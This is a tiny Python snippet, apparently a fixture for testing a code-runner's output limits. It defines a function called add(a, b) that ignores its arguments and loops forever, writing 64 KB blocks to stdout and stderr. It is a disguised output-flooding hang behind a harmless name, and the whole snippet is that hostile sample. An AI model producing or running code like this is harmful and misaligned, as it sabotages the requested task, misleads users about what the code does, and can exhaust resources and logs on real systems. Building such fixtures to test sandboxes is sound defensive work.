import os, sys
def add(a, b):
    line = b"x" * 65536
    while True:
        os.write(1, line)
        os.write(2, line)
